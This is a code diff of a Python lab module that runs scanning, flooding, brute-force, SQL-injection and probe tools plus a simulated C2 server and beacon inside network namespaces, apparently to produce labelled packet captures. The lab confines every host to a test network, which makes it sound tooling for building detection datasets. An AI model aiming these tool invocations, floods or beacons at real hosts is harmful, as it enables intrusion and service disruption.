+                    str(r.randint(0, 2**31)),
+                    *targets,
+                ],
+                delay=round(r.uniform(0, 0.5), 2),
+            )
+        )
     return web, cmds, {}
 
-
-BUILDERS: dict[str, Callable] = {"nmap": _nmap, "masscan": _masscan, "hping3": _hping3, "goldeneye": _goldeneye, "httpflood": _httpflood,
-                                 "slowhttptest": _slowhttptest, "hydra": _hydra, "medusa": _medusa, "ncrack": _ncrack,
-                                 "sqlmap": _sqlmap, "xss-probe": _xss_probe, "traversal-probe": _traversal_probe, "beacon": _beacon,
-                                 "poller": _poller}
+# %% ../nbs/14_lab.ipynb #38ae3e96
+BUILDERS: dict[str, Callable] = {
+    "nmap": _nmap,
+    "masscan": _masscan,
+    "hping3": _hping3,
+    "goldeneye": _goldeneye,
+    "httpflood": _httpflood,
+    "slowhttptest": _slowhttptest,
+    "hydra": _hydra,
+    "medusa": _medusa,
+    "ncrack": _ncrack,
+    "sqlmap": _sqlmap,
+    "xss-probe": _xss_probe,
+    "traversal-probe": _traversal_probe,
+    "beacon": _beacon,
+    "poller": _poller,
+}
 
 # %% ../nbs/14_lab.ipynb #3a704e83
 _SSH_OPTS = "-o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -o BatchMode=yes -o ConnectTimeout=5 -o LogLevel=ERROR"
@@ -542,22 +776,29 @@ def _activity(r: random.Random, kind: str, work: Path, files: dict[str, int]) ->
         lim = r.choice(["", "", "--limit-rate 200k ", "--limit-rate 1m "])
         return f"timeout -k 1 30 curl -s {lim}http://{r.choice([web, infra])}/{p} >/dev/null"
     if kind == "login":
-        pw = SECRET_PASSWORD if r.random() < 0.9 else "correct-horse-batery"    # people mistype, now and then
-        return (f"timeout -k 1 10 curl -s http://{web}/login.html >/dev/null; sleep {r.uniform(1, 5):.1f}; "
-                f"timeout -k 1 10 curl -s -X POST -d 'user={SECRET_USER}&password={pw}' http://{web}/app/login >/dev/null")
+        pw = SECRET_PASSWORD if r.random() < 0.9 else "correct-horse-batery"  # people mistype, now and then
+        return (
+            f"timeout -k 1 10 curl -s http://{web}/login.html >/dev/null; sleep {r.uniform(1, 5):.1f}; "
+            f"timeout -k 1 10 curl -s -X POST -d 'user={SECRET_USER}&password={pw}' http://{web}/app/login >/dev/null"
+        )
     if kind == "private":
         return f"timeout -k 1 10 curl -s -u {SECRET_USER}:{SECRET_PASSWORD} http://{web}/private/report-{r.randint(1, 8)}.html >/dev/null"
     if kind == "ssh":
         srv = r.choice([web, infra])
         if r.random() < 0.5:
-            typed = "; ".join(f"sleep {r.uniform(0.5, 3):.1f}; echo {shlex.quote(c)}" for c in
-                              r.sample(["ls -la /", "uptime", "df -h", "ps aux | head", "cat /etc/os-release", "free -m", "id", "date"], r.randint(2, 5)))
+            typed = "; ".join(
+                f"sleep {r.uniform(0.5, 3):.1f}; echo {shlex.quote(c)}"
+                for c in r.sample(
+                    ["ls -la /", "uptime", "df -h", "ps aux | head", "cat /etc/os-release", "free -m", "id", "date"], r.randint(2, 5)
+                )
+            )
             return f"( {typed}; sleep 1; echo exit ) | timeout -k 1 40 ssh -tt {key} root@{srv} >/dev/null 2>&1"
         return f"timeout -k 1 20 ssh {key} root@{srv} {shlex.quote(r.choice(['uptime', 'ls /etc | wc -l', 'cat /proc/loadavg', 'date']))} >/dev/null 2>&1"
     if kind == "scp":
         return f"timeout -k 1 30 scp -q {key} root@{r.choice([web, infra])}:{work / 'www' / r.choice(blobs)} /dev/null 2>/dev/null"
     if kind == "ftp":
-        if r.random() < 0.3: return f"timeout -k 1 15 curl -s ftp://{web}/pub/ >/dev/null"
+        if r.random() < 0.3:
+            return f"timeout -k 1 15 curl -s ftp://{web}/pub/ >/dev/null"
         return f"timeout -k 1 30 curl -s ftp://{web}/pub/{Path(r.choice(blobs)).name} >/dev/null"
     if kind == "dns":
         name = r.choice(_NAMES) if r.random() < 0.8 else f"host{r.randint(1, 999)}.lab.test"
@@ -596,12 +837,15 @@ def _client_script(r: random.Random, spec: BenignSpec, duration: float, work: Pa
 def _web_files(r: random.Random) -> dict[str, int]:
     "Paths and sizes of the static content: pages (1-60 kB), images (5-400 kB), downloads (10 kB-4 MB)."
     files = {}
-    for i in range(WEB_PAGES // 2): files[f"pages/p{i}.html"] = int(r.lognormvariate(9, 0.8)) % 60_000 + 500
-    for i in range(WEB_PAGES // 4): files[f"img/i{i}.jpg"] = int(r.lognormvariate(10.5, 1.0)) % 400_000 + 5_000
-    for i in range(WEB_PAGES // 4): files[f"files/blob{i}.bin"] = int(r.lognormvariate(12, 1.5)) % 4_000_000 + 10_000
+    for i in range(WEB_PAGES // 2):
+        files[f"pages/p{i}.html"] = int(r.lognormvariate(9, 0.8)) % 60_000 + 500
+    for i in range(WEB_PAGES // 4):
+        files[f"img/i{i}.jpg"] = int(r.lognormvariate(10.5, 1.0)) % 400_000 + 5_000
+    for i in range(WEB_PAGES // 4):
+        files[f"files/blob{i}.bin"] = int(r.lognormvariate(12, 1.5)) % 4_000_000 + 10_000
     return files
 
-
+# %% ../nbs/14_lab.ipynb #d99b5328
 def plan_session(scenario: Scenario, seed: int, work: str | Path) -> SessionPlan:
     "Draw hosts, start times, variants, intensities, targets and command lines of a session from `seed`."
     r = random.Random(seed)
@@ -621,17 +865,37 @@ def plan_session(scenario: Scenario, seed: int, work: str | Path) -> SessionPlan
         n_hosts = r.randint(*spec.hosts)
         me = [Host(f"s{i}h{k}", f"198.19.{i}.{k}", "attacker") for k in range(1, n_hosts + 1)]
         c2 = Host(f"s{i}c2", f"198.19.{i}.200", "c2") if spec.tool == "beacon" else None
-        for h in me + ([c2] if c2 else []): hosts[h.name] = h
-        ctx = _Ctx(rng=random.Random(r.random()), work=work, name=name, variant=variant,
-                   intensity=round(r.uniform(*spec.intensity), 3), max_s=spec.max_s, me=me, c2=c2)
+        for h in me + ([c2] if c2 else []):
+            hosts[h.name] = h
+        ctx = _Ctx(
+            rng=random.Random(r.random()),
+            work=work,
+            name=name,
+            variant=variant,
+            intensity=round(r.uniform(*spec.intensity), 3),
+            max_s=spec.max_s,
+            me=me,
+            c2=c2,
+        )
         target, cmds, written = BUILDERS[spec.tool](ctx)
         extra_files.update(written)
-        steps.append(StepPlan(name=name, family=spec.family, tool=spec.tool, variant=variant, at=round(r.uniform(*spec.at), 2),
-                              max_s=spec.max_s, intensity=ctx.intensity, target=target, hosts=[h.name for h in me] + ([c2.name] if c2 else []),
-                              commands=cmds))
-    for h in hosts.values(): assert ipaddress.ip_address(h.ip) in LAB_NET, h
-    return SessionPlan(scenario=scenario, seed=seed, work=work, hosts=hosts, clients=clients, steps=steps, files=files,
-                       scripts=extra_files)
+        steps.append(
+            StepPlan(
+                name=name,
+                family=spec.family,
+                tool=spec.tool,
+                variant=variant,
+                at=round(r.uniform(*spec.at), 2),
+                max_s=spec.max_s,
+                intensity=ctx.intensity,
+                target=target,
+                hosts=[h.name for h in me] + ([c2.name] if c2 else []),
+                commands=cmds,
+            )
+        )
+    for h in hosts.values():
+        assert ipaddress.ip_address(h.ip) in LAB_NET, h
+    return SessionPlan(scenario=scenario, seed=seed, work=work, hosts=hosts, clients=clients, steps=steps, files=files, scripts=extra_files)
 
 # %% ../nbs/14_lab.ipynb #6dc43d86
 WEB_APP = r'''
@@ -695,7 +959,7 @@ ThreadingHTTPServer(("127.0.0.1", int(sys.argv[1])), App).serve_forever()
 '''
 
 # %% ../nbs/14_lab.ipynb #95fa6dc3
-C2_SERVER = r'''
+C2_SERVER = r"""
 import json, random, sys
 from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
 rng = random.Random(int(sys.argv[2]))
@@ -709,9 +973,9 @@ class C2(BaseHTTPRequestHandler):
     def do_POST(self):
         self.rfile.read(int(self.headers.get("Content-Length") or 0)); self.answer()
 ThreadingHTTPServer((sys.argv[1], 8080), C2).serve_forever()
-'''
+"""
 
-BEACON = r'''
+BEACON = r"""
 import json, random, sys, time, urllib.request
 c2, mode, interval, jitter, seconds, seed = sys.argv[1], sys.argv[2], float(sys.argv[3]), float(sys.argv[4]), float(sys.argv[5]), int(sys.argv[6])
 rng, end, bot = random.Random(seed), time.time() + seconds, "%08x" % random.Random(seed).getrandbits(32)
@@ -727,10 +991,10 @@ while time.time() < end:
     except Exception:
         task = "sleep"
     time.sleep(max(0.05, interval * (1 + rng.uniform(-jitter, jitter))))
-'''
+"""
 
 
-POLLER = r'''
+POLLER = r"""
 import random, socket, sys, time, urllib.request
 mode, interval, jitter, seconds, seed, targets = sys.argv[1], float(sys.argv[2]), float(sys.argv[3]), float(sys.argv[4]), int(sys.argv[5]), sys.argv[6:]
 rng, end = random.Random(seed), time.time() + seconds
@@ -745,7 +1009,7 @@ while time.time() < end:
         except Exception:
             pass
     time.sleep(max(0.05, interval * (1 + rng.uniform(-jitter, jitter))))
-'''
+"""
 
 # %% ../nbs/14_lab.ipynb #3eaac2f3
 def _nginx_conf(work: Path, ip: str, root: Path, tag: str) -> str:
@@ -822,8 +1086,20 @@ vsftpd_log_file={work}/vsftpd.log
 # %% ../nbs/14_lab.ipynb #4977d3fc
 def _dnsmasq_argv(work: Path, ip: str) -> list[str]:
     zone = {"www": "web", "files": "web", "ssh": "web", "updates": "infra", "mail": "infra", "intranet": "web"}
-    argv = ["dnsmasq", "-k", "--conf-file=/dev/null", "--no-resolv", "--no-hosts", "--no-poll", "--user=root", "--group=root",
-            f"--pid-file={work}/dnsmasq.pid", f"--listen-address={ip}", "--bind-interfaces", "--cache-size=0"]
+    argv = [
+        "dnsmasq",
+        "-k",
+        "--conf-file=/dev/null",
+        "--no-resolv",
+        "--no-hosts",
+        "--no-poll",
+        "--user=root",
+        "--group=root",
+        f"--pid-file={work}/dnsmasq.pid",
+        f"--listen-address={ip}",
+        "--bind-interfaces",
+        "--cache-size=0",
+    ]
     argv += [f"--address=/{n}.lab.test/{SERVERS[h]}" for n, h in zone.items()]
     argv += ["--mx-host=lab.test,mail.lab.test,10", "--txt-record=lab.test,v=spf1 -all", "--local=/lab.test/"]
     return argv
@@ -852,8 +1128,21 @@ def _which(name: str) -> str | None:
 def write_work(plan: SessionPlan) -> None:
     "Write configs, scripts, web content, keys and wordlists of `plan` into its work folder."
     w, r = plan.work, random.Random(plan.seed + 1)
-    for d in ("www/pages", "www/img", "www/files", "www/private", "www/updates", "www/static", "docs", "ftp/pub", "ftp-empty", "home", "clients",
-              "nginx-web", "nginx-infra"):
+    for d in (
+        "www/pages",
+        "www/img",
+        "www/files",
+        "www/private",
+        "www/updates",
+        "www/static",
+        "docs",
+        "ftp/pub",
+        "ftp-empty",
+        "home",
+        "clients",
+        "nginx-web",
+        "nginx-infra",
+    ):
         (w / d).mkdir(parents=True, exist_ok=True)
     for path, size in plan.files.items():
         p = w / "www" / path
@@ -861,12 +1150,19 @@ def write_work(plan: SessionPlan) -> None:
             if path.endswith(".html"):
                 para = b"<p>" + b"lorem ipsum dolor sit amet " * 8 + b"</p>\n"
                 f.write(b"<html><body>" + para * (size // len(para) + 1))
-            else: f.write(r.randbytes(min(size, 65536)) * (size // 65536 + 1))
+            else:
+                f.write(r.randbytes(min(size, 65536)) * (size // 65536 + 1))
             f.truncate(size)
-        if path.startswith("files/"): os.link(p, w / "ftp" / "pub" / p.name)
-    (w / "www" / "index.html").write_text("<html><body>" + "".join(f'<a href="/{p}">{p}</a>' for p in plan.files if p.startswith("pages/")) + "</body></html>")
-    (w / "www" / "login.html").write_text('<html><form method="post" action="/app/login"><input name="user"><input name="password" type="password"></form></html>')
-    for i in range(1, 9): (w / "www" / "private" / f"report-{i}.html").write_text(f"<html>quarterly report {i}</html>" * 40)
+        if path.startswith("files/"):
+            os.link(p, w / "ftp" / "pub" / p.name)
+    (w / "www" / "index.html").write_text(
+        "<html><body>" + "".join(f'<a href="/{p}">{p}</a>' for p in plan.files if p.startswith("pages/")) + "</body></html>"
+    )
+    (w / "www" / "login.html").write_text(
+        '<html><form method="post" action="/app/login"><input name="user"><input name="password" type="password"></form></html>'
+    )
+    for i in range(1, 9):
+        (w / "www" / "private" / f"report-{i}.html").write_text(f"<html>quarterly report {i}</html>" * 40)
     (w / "www" / "updates" / "manifest.json").write_text(json.dumps({"version": "1.4.2", "packages": [f"pkg{i}" for i in range(40)]}))
     (w / "www" / "static" / "style.css").write_text("body { font: 12px sans-serif }\n" * 50)
     (w / "docs" / "readme.txt").write_text("user manual\n" * 100)
@@ -880,14 +1176,17 @@ def write_work(plan: SessionPlan) -> None:
         (w / f"nginx-{tag}.conf").write_text(_nginx_conf(w, ip, w / "www", tag))
         (w / f"sshd-{tag}.conf").write_text(_sshd_conf(w, ip, tag))
     (w / "vsftpd.conf").write_text(_vsftpd_conf(w, SERVERS["web"]))
-    for name, lines in plan.clients.items(): (w / "clients" / f"{name}.sh").write_text("\n".join(lines) + "\n")
-    for path, text in plan.scripts.items(): Path(path).write_text(text)
+    for name, lines in plan.clients.items():
+        (w / "clients" / f"{name}.sh").write_text("\n".join(lines) + "\n")
+    for path, text in plan.scripts.items():
+        Path(path).write_text(text)
     keygen = _which("ssh-keygen") or "ssh-keygen"
     subprocess.run([keygen, "-q", "-t", "ed25519", "-N", "", "-f", str(w / "ssh_host_key")], check=True, capture_output=True)
     subprocess.run([keygen, "-q", "-t", "ed25519", "-N", "", "-f", str(w / "client_key")], check=True, capture_output=True)
     shutil.copy(w / "client_key.pub", w / "authorized_keys")
     os.chmod(w, 0o755)
-    for d in ("ftp", "ftp/pub", "ftp-empty"): os.chmod(w / d, 0o755)
+    for d in ("ftp", "ftp/pub", "ftp-empty"):
+        os.chmod(w / d, 0o755)
 
 # %% ../nbs/14_lab.ipynb #03a15364
 log = logging.getLogger("cyber_moe.lab")
@@ -912,20 +1211,26 @@ def lab_namespaces(run_id: str | None = None) -> list[str]:
 def check_available(binaries: list[str] = ()) -> None:
     "Raise `LabUnavailable` unless this process is root, `ip netns` works and every program in `binaries` is on PATH."
     if not hasattr(os, "geteuid") or os.geteuid() != 0:
-        raise LabUnavailable("the traffic lab needs root (network namespaces, raw sockets, packet capture); "
-                             "run as root or in a container with CAP_NET_ADMIN and CAP_NET_RAW")
-    if _which("ip") is None: raise LabUnavailable("`ip` (iproute2) is not on PATH; apt-get install iproute2")
+        raise LabUnavailable(
+            "the traffic lab needs root (network namespaces, raw sockets, packet capture); "
+            "run as root or in a container with CAP_NET_ADMIN and CAP_NET_RAW"
+        )
+    if _which("ip") is None:
+        raise LabUnavailable("`ip` (iproute2) is not on PATH; apt-get install iproute2")
     probe = f"{NS_PREFIX}probe{secrets.token_hex(3)}"
     r = _ip("netns", "add", probe, check=False)
     if r.returncode != 0:
-        raise LabUnavailable(f"cannot create a network namespace (`ip netns add` said: {r.stderr.strip()}); "
-                             "the lab needs CAP_SYS_ADMIN and CAP_NET_ADMIN (a privileged container or a VM)")
+        raise LabUnavailable(
+            f"cannot create a network namespace (`ip netns add` said: {r.stderr.strip()}); "
+            "the lab needs CAP_SYS_ADMIN and CAP_NET_ADMIN (a privileged container or a VM)"
+        )
     _ip("netns", "del", probe, check=False)
     missing = [b for b in dict.fromkeys(binaries) if _which(b) is None]
     if missing:
         pk = sorted({DEBIAN_PACKAGES.get(b, b) for b in missing})
-        raise LabUnavailable(f"program(s) not on PATH: {', '.join(missing)}; install them with "
-                             f"`apt-get install {' '.join(pk)}` (or `make sysdeps-lab`)")
+        raise LabUnavailable(
+            f"program(s) not on PATH: {', '.join(missing)}; install them with `apt-get install {' '.join(pk)}` (or `make sysdeps-lab`)"
+        )
 
 # %% ../nbs/14_lab.ipynb #c0b3a103
 @dataclass
@@ -979,7 +1284,7 @@ def _build(self: Lab) -> None:
     plan, sw = self.plan, self.ns("sw")
     plan.work.mkdir(parents=True, exist_ok=True)
     write_work(plan)
-    Path("/run/sshd").mkdir(mode=0o755, exist_ok=True)     # sshd's privilege-separation folder (standard, left in place)
+    Path("/run/sshd").mkdir(mode=0o755, exist_ok=True)  # sshd's privilege-separation folder (standard, left in place)
     self._add_ns(sw)
     _ip("-n", sw, "link", "add", "br0", "type", "bridge")
     _ip("-n", sw, "link", "set", "br0", "up")
@@ -999,16 +1304,31 @@ def spawn(self: Lab, host: str, argv: list[str], tag: str, *, bound_s: float | N
     logf = self.plan.work / "logs" / f"{tag}.log"
     logf.parent.mkdir(exist_ok=True)
     cmd = ["ip", "netns", "exec", self.ns(host)]
-    if bound_s is not None: cmd += ["timeout", "-k", "2", f"{bound_s:.1f}"]
-    env = {**os.environ, "HOME": str(self.plan.work / "home"), "LC_ALL": "C",
-           "PATH": os.environ.get("PATH", "") + ":/usr/local/sbin:/usr/sbin:/sbin"}
+    if bound_s is not None:
+        cmd += ["timeout", "-k", "2", f"{bound_s:.1f}"]
+    env = {
+        **os.environ,
+        "HOME": str(self.plan.work / "home"),
+        "LC_ALL": "C",
+        "PATH": os.environ.get("PATH", "") + ":/usr/local/sbin:/usr/sbin:/sbin",
+    }
     with open(logf, "ab") as out:
-        p = subprocess.Popen(cmd + argv, stdout=out, stderr=subprocess.STDOUT, stdin=subprocess.DEVNULL,
-                             cwd=self.plan.work / "home", env=env, start_new_session=True)
+        p = subprocess.Popen(
+            cmd + argv,
+            stdout=out,
+            stderr=subprocess.STDOUT,
+            stdin=subprocess.DEVNULL,
+            cwd=self.plan.work / "home",
+            env=env,
+            start_new_session=True,
+        )
     proc = _Proc(tag, p, time.time(), log=logf)
     self.procs.append(proc)
+
     def waiter():
-        p.wait(); proc.ended = time.time()
+        p.wait()
+        proc.ended = time.time()
+
     threading.Thread(target=waiter, daemon=True).start()
     return proc
 
@@ -1017,58 +1337,79 @@ def spawn(self: Lab, host: str, argv: list[str], tag: str, *, bound_s: float | N
 def stop(self: Lab, proc: _Proc, sig: int = signal.SIGTERM, wait: float = 3.0) -> None:
     "Signal `proc`'s process group, then SIGKILL it if it has not ended within `wait` seconds."
     for s in (sig, signal.SIGKILL):
-        if proc.popen.poll() is not None: break
-        with contextlib.suppress(ProcessLookupError, PermissionError): os.killpg(proc.popen.pid, s)
-        with contextlib.suppress(subprocess.TimeoutExpired): proc.popen.wait(wait)
-    with contextlib.suppress(ProcessLookupError, PermissionError): os.killpg(proc.popen.pid, signal.SIGKILL)
+        if proc.popen.poll() is not None:
+            break
+        with contextlib.suppress(ProcessLookupError, PermissionError):
+            os.killpg(proc.popen.pid, s)
+        with contextlib.suppress(subprocess.TimeoutExpired):
+            proc.popen.wait(wait)
+    with contextlib.suppress(ProcessLookupError, PermissionError):
+        os.killpg(proc.popen.pid, signal.SIGKILL)
 
 # %% ../nbs/14_lab.ipynb #c151dfb3
 @patch
 def cleanup(self: Lab) -> None:
     "Stop every process, kill what is left in the namespaces, delete the namespaces and the work folder (idempotent)."
-    if self.cleaned: return
+    if self.cleaned:
+        return
     old = {}
     if threading.current_thread() is threading.main_thread():
-        for s in (signal.SIGINT, signal.SIGTERM): old[s] = signal.signal(s, signal.SIG_IGN)   # finish cleaning first
+        for s in (signal.SIGINT, signal.SIGTERM):
+            old[s] = signal.signal(s, signal.SIG_IGN)  # finish cleaning first
     try:
         for p in self.procs:
             with contextlib.suppress(ProcessLookupError, PermissionError):
-                if p.popen.poll() is None: os.killpg(p.popen.pid, signal.SIGTERM)
+                if p.popen.poll() is None:
+                    os.killpg(p.popen.pid, signal.SIGTERM)
         deadline = time.time() + 2
         for p in self.procs:
-            with contextlib.suppress(subprocess.TimeoutExpired): p.popen.wait(max(0.01, deadline - time.time()))
+            with contextlib.suppress(subprocess.TimeoutExpired):
+                p.popen.wait(max(0.01, deadline - time.time()))
         for p in self.procs:
-            with contextlib.suppress(ProcessLookupError, PermissionError): os.killpg(p.popen.pid, signal.SIGKILL)
-            with contextlib.suppress(subprocess.TimeoutExpired): p.popen.wait(2)
+            with contextlib.suppress(ProcessLookupError, PermissionError):
+                os.killpg(p.popen.pid, signal.SIGKILL)
+            with contextlib.suppress(subprocess.TimeoutExpired):
+                p.popen.wait(2)
         for ns in set(self.namespaces) | set(lab_namespaces(self.run_id)):
             pids = subprocess.run(["ip", "netns", "pids", ns], capture_output=True, text=True).stdout.split()
             for pid in pids:
-                with contextlib.suppress(ProcessLookupError, ValueError): os.kill(int(pid), signal.SIGKILL)
+                with contextlib.suppress(ProcessLookupError, ValueError):
+                    os.kill(int(pid), signal.SIGKILL)
         time.sleep(0.05)
         for ns in set(self.namespaces) | set(lab_namespaces(self.run_id)):
             _ip("netns", "del", ns, check=False)
-        if not self.keep_work: shutil.rmtree(self.plan.work, ignore_errors=True)
+        if not self.keep_work:
+            shutil.rmtree(self.plan.work, ignore_errors=True)
         self.cleaned = True
         log.info("lab %s: cleaned up (%d processes, %d namespaces)", self.run_id, len(self.procs), len(self.namespaces))
     finally:
-        for s, h in old.items(): signal.signal(s, h)
+        for s, h in old.items():
+            signal.signal(s, h)
 
 # %% ../nbs/14_lab.ipynb #b92a532c
 @contextlib.contextmanager
 def signals_raise():
     "While inside, SIGTERM and SIGINT raise `LabInterrupted` in the main thread (so `with Lab(...)` cleans up)."
     if threading.current_thread() is not threading.main_thread():
-        yield; return
-    def handler(signum, frame): raise LabInterrupted(f"received {signal.Signals(signum).name}")
+        yield
+        return
+
+    def handler(signum, frame):
+        raise LabInterrupted(f"received {signal.Signals(signum).name}")
+
     old = {s: signal.signal(s, handler) for s in (signal.SIGINT, signal.SIGTERM)}
-    try: yield
+    try:
+        yield
     finally:
-        for s, h in old.items(): signal.signal(s, h)
+        for s, h in old.items():
+            signal.signal(s, h)
 
 # %% ../nbs/14_lab.ipynb #51fc0d78
 OK_CODES = (0, 124)
-TOOL_OK_CODES = {"hping3": (0, 1, 124),     # hping3 exits 1 when no probe got an answer (a flood to a closed UDP port, FIN floods)
-                 "httpflood": (0, 28, 124)}  # curl exits 28 when a request of the flood timed out: the server is swamped
+TOOL_OK_CODES = {
+    "hping3": (0, 1, 124),  # hping3 exits 1 when no probe got an answer (a flood to a closed UDP port, FIN floods)
+    "httpflood": (0, 28, 124),
+}  # curl exits 28 when a request of the flood timed out: the server is swamped
 
 
 def _wait_listening(lab: Lab, host: str, port: int, proto: str = "tcp", timeout: float = 8.0) -> None:
@@ -1077,7 +1418,8 @@ def _wait_listening(lab: Lab, host: str, port: int, proto: str = "tcp", timeout:
     end = time.time() + timeout
     while time.time() < end:
         out = subprocess.run(["ip", "netns", "exec", lab.ns(host), "ss", flag, f"sport = :{port}"], capture_output=True, text=True).stdout
-        if out.strip(): return
+        if out.strip():
+            return
         time.sleep(0.05)
     dead = [p for p in lab.procs if p.popen.poll() is not None]
     detail = "; ".join(f"{p.tag} exited {p.popen.returncode}: {_tail(p.log)}" for p in dead) or "no service exited"
@@ -1085,30 +1427,42 @@ def _wait_listening(lab: Lab, host: str, port: int, proto: str = "tcp", timeout:
 
 
 def _tail(path: Path | None, n: int = 3) -> str:
-    if path is None or not path.is_file(): return ""
+    if path is None or not path.is_file():
+        return ""
     lines = [l for l in path.read_text(errors="replace").splitlines() if l.strip()]
     return " | ".join(lines[-n:])[-400:]
 
 
 def _step_status(codes: list[int | None], crashed: bool, stopped: bool, tool: str = "") -> str:
-    if crashed: return "failed"
-    if stopped: return "stopped"
+    if crashed:
+        return "failed"
+    if stopped:
+        return "stopped"
     return "ok" if all(c in TOOL_OK_CODES.get(tool, OK_CODES) for c in codes) else "failed"
 
 # %% ../nbs/14_lab.ipynb #24b5543e
 def _start_capture(lab: Lab, pcap: Path) -> _Proc:
     "Start the servers' daemons, wait until each listens, then start tcpdump on the bridge writing `pcap`."
     plan, sc = lab.plan, lab.plan.scenario
-    for i, c in enumerate(_services(plan)): lab.spawn(c.host, c.argv, f"svc{i}-{Path(c.argv[0]).name}")
-    for host, port, proto in (("web", 80, "tcp"), ("web", 22, "tcp"), ("web", 21, "tcp"), ("web", 8081, "tcp"),
-                              ("infra", 53, "udp"), ("infra", 80, "tcp"), ("infra", 22, "tcp")):
+    for i, c in enumerate(_services(plan)):
+        lab.spawn(c.host, c.argv, f"svc{i}-{Path(c.argv[0]).name}")
+    for host, port, proto in (
+        ("web", 80, "tcp"),
+        ("web", 22, "tcp"),
+        ("web", 21, "tcp"),
+        ("web", 8081, "tcp"),
+        ("infra", 53, "udp"),
+        ("infra", 80, "tcp"),
+        ("infra", 22, "tcp"),
+    ):
         _wait_listening(lab, host, port, proto)
     pcap = Path(pcap)
     pcap.parent.mkdir(parents=True, exist_ok=True)
     dump = lab.spawn("sw", ["tcpdump", "-i", "br0", "-n", "-s", str(sc.snaplen), "-B", "32768", "-Z", "root", "-w", str(pcap)], "tcpdump")
     end = time.time() + 10
     while time.time() < end and "listening on" not in dump.log.read_text(errors="replace"):
-        if dump.popen.poll() is not None: raise RuntimeError(f"tcpdump exited {dump.popen.returncode}: {_tail(dump.log)}")
+        if dump.popen.poll() is not None:
+            raise RuntimeError(f"tcpdump exited {dump.popen.returncode}: {_tail(dump.log)}")
         time.sleep(0.05)
     return dump
 
@@ -1119,7 +1473,8 @@ def _tcpdump_stats(tcpdump_log: str) -> dict:
     for line in tcpdump_log.splitlines():
         for key in ("captured", "received by filter", "dropped by kernel"):
             words = line.split()
-            if line.strip().endswith(key) and words and words[0].isdigit(): stats[key.replace(" ", "_")] = int(words[0])
+            if line.strip().endswith(key) and words and words[0].isdigit():
+                stats[key.replace(" ", "_")] = int(words[0])
     return stats
 
 
@@ -1132,11 +1487,25 @@ def _step_results(plan: SessionPlan, done: list[dict]) -> list[dict]:
         codes = [p.popen.returncode for _, p in main]
         status = _step_status(codes, rec["crashed"], rec["stopped"], st.tool)
         why = None
-        if rec["crashed"]: why = "killed with SIGKILL part-way (inject_crash)"
+        if rec["crashed"]:
+            why = "killed with SIGKILL part-way (inject_crash)"
         elif status == "failed":
-            why = "; ".join(f"{Path(c.argv[0]).name} exited {p.popen.returncode}: {_tail(p.log)}" for c, p in main if p.popen.returncode not in TOOL_OK_CODES.get(st.tool, OK_CODES))
-        steps.append({**st.to_dict(), "addresses": [plan.hosts[h].ip for h in st.hosts], "t_start": rec["t_start"],
-                      "t_end": rec["t_end"], "status": status, "exit_codes": codes, "error": why})
+            why = "; ".join(
+                f"{Path(c.argv[0]).name} exited {p.popen.returncode}: {_tail(p.log)}"
+                for c, p in main
+                if p.popen.returncode not in TOOL_OK_CODES.get(st.tool, OK_CODES)
+            )
+        steps.append(
+            {
+                **st.to_dict(),
+                "addresses": [plan.hosts[h].ip for h in st.hosts],
+                "t_start": rec["t_start"],
+                "t_end": rec["t_end"],
+                "status": status,
+                "exit_codes": codes,
+                "error": why,
+            }
+        )
     return steps
 
 # %% ../nbs/14_lab.ipynb #be054e42
@@ -1148,8 +1517,10 @@ def run_session(lab: Lab, pcap: Path, *, inject_crash: str | None = None, on_eve
     time.sleep(0.2)
     t0 = time.time()
     setup_s = t0 - t_setup
-    clients = [lab.spawn(name, ["bash", str(plan.work / "clients" / f"{name}.sh")], f"client-{name}", bound_s=sc.duration_s + 1)
-               for name in plan.clients]
+    clients = [
+        lab.spawn(name, ["bash", str(plan.work / "clients" / f"{name}.sh")], f"client-{name}", bound_s=sc.duration_s + 1)
+        for name in plan.clients
+    ]
     pending = sorted(plan.steps, key=lambda s: s.at)
     running: dict[str, dict] = {}
     done: list[dict] = []
@@ -1159,41 +1530,57 @@ def run_session(lab: Lab, pcap: Path, *, inject_crash: str | None = None, on_eve
             st = pending.pop(0)
             rec = {"step": st, "procs": [], "t_start": time.time(), "crashed": False, "stopped": False}
             for k, c in enumerate(st.commands):
-                if c.delay: time.sleep(c.delay)
+                if c.delay:
+                    time.sleep(c.delay)
                 bound = None if c.daemon else st.max_s
                 rec["procs"].append((c, lab.spawn(c.host, c.argv, f"{st.name}-{k}", bound_s=bound)))
             running[st.name] = rec
-            if on_event: on_event("start", st.name)
+            if on_event:
+                on_event("start", st.name)
         for name, rec in list(running.items()):
             main = [p for c, p in rec["procs"] if not c.daemon]
             if inject_crash == name and not rec["crashed"] and now - rec["t_start"] >= min(2.0, 0.4 * rec["step"].max_s):
-                for p in main: lab.stop(p, signal.SIGKILL, wait=1)
+                for p in main:
+                    lab.stop(p, signal.SIGKILL, wait=1)
                 rec["crashed"] = True
             if all(p.ended is not None for p in main):
                 for c, p in rec["procs"]:
-                    if c.daemon: lab.stop(p)
+                    if c.daemon:
+                        lab.stop(p)
                 rec["t_end"] = max(p.ended or time.time() for _, p in rec["procs"])
-                done.append(rec); del running[name]
-                if on_event: on_event("end", name)
+                done.append(rec)
+                del running[name]
+                if on_event:
+                    on_event("end", name)
         if now - t0 >= sc.duration_s and not pending:
             break
         time.sleep(0.05)
-    for name, rec in list(running.items()):            # the capture is over: stop what is still running
+    for name, rec in list(running.items()):  # the capture is over: stop what is still running
         rec["stopped"] = True
-        for _, p in rec["procs"]: lab.stop(p, wait=1)
+        for _, p in rec["procs"]:
+            lab.stop(p, wait=1)
         rec["t_end"] = max(p.ended or time.time() for _, p in rec["procs"])
         done.append(rec)
-    for p in clients: lab.stop(p, wait=1)
+    for p in clients:
+        lab.stop(p, wait=1)
     t_clients_end = time.time()
-    time.sleep(0.5)                                      # the last FINs and resets reach the capture
+    time.sleep(0.5)  # the last FINs and resets reach the capture
     dump.popen.send_signal(signal.SIGINT)
-    with contextlib.suppress(subprocess.TimeoutExpired): dump.popen.wait(10)
+    with contextlib.suppress(subprocess.TimeoutExpired):
+        dump.popen.wait(10)
     t1 = time.time()
     stats = _tcpdump_stats(dump.log.read_text(errors="replace"))
     steps = _step_results(plan, done)
-    return {"t_start": t0, "t_end": t_clients_end, "t_capture_end": t1, "setup_s": round(setup_s, 2), "steps": steps,
-            "tcpdump": stats, "clients": {n: plan.hosts[n].ip for n in plan.clients},
-            "servers": dict(SERVERS)}
+    return {
+        "t_start": t0,
+        "t_end": t_clients_end,
